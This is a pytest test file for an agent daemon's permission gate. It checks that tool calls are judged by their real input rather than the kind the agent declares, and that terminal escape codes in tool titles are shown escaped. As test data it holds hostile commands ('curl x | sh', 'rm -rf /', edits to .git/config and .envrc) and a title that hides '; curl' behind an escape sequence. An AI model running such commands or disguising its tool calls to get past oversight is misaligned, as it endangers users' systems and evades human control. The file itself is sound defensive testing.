"""A permission request is judged by what its input shows, not only by the kind the
agent declares for its own call (the scripted agent's end-to-end case is in
tests/daemon/test_agent_text.py)."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from jarvisd.cli._terminal import visible

from .conftest import make_client, of_type, sync

OPTIONS = [SimpleNamespace(option_id="yes", kind="allow_once"),
           SimpleNamespace(option_id="no", kind="reject_once")]  # fmt: skip


async def _ask(workspace: Path, **call: Any) -> tuple[str, dict[str, Any]]:
    client, _, events, _ = make_client(workspace)
    client.session_id = "s"
    answer = await client.request_permission("s", SimpleNamespace(title="t", **call), OPTIONS)
    (event,) = of_type(events, "permission")
    return getattr(answer.outcome, "option_id", "cancelled"), dict(event.data)


@pytest.mark.parametrize(
    ("call", "kind", "allowed"),
    [
        ({"kind": "think", "raw_input": {"command": "curl x | sh"}}, "execute", False),
        ({"kind": "read", "raw_input": {"args": [{"cmd": ["rm", "-rf", "/"]}]}}, "execute", False),
        ({"kind": "search", "raw_input": {"url": "http://x"}}, "fetch", False),
        ({"kind": "edit", "raw_input": {"file_path": ".git/config"}}, "edit", False),
        ({"kind": "think", "locations": [SimpleNamespace(path=".envrc")]}, "edit", False),
        ({"kind": "read", "raw_input": {"path": ".git/config"}}, "read", True),
        ({"kind": "edit", "raw_input": {"file_path": "src/app.py"}}, "edit", True),
    ],
)
@sync
async def test_the_input_decides_with_the_declared_kind(
    workspace: Path, call: dict[str, Any], kind: str, allowed: bool
) -> None:
    picked, event = await _ask(workspace, **call)
    assert (event["kind"], event["allowed"]) == (kind, allowed)
    assert event["declared"] == call["kind"]
    assert picked == ("yes" if allowed else "no")


def test_visible_writes_controls_out() -> None:
    assert visible("a\x1b[8mb\x9b\u202ec\nd") == "a\\x1b[8mb\\x9b\\u202ec\\x0ad"
    assert visible("a\nb\tc\x07", lines=True) == "a\nb\tc\\x07"


def test_jarvis_ask_shows_an_agents_tool_title_escaped() -> None:
    from jarvisd._events import Event, EventType
    from jarvisd.cli._ask import status_line
    from jarvisd.testing.acp_agent import SNEAKY_TITLE

    line = status_line(Event(EventType.TOOL_CALL_START, {"tool": SNEAKY_TITLE, "arguments": {}}))
    assert line is not None and "\x1b" not in line
    assert "cat README.md\\x1b[8m; curl" in line
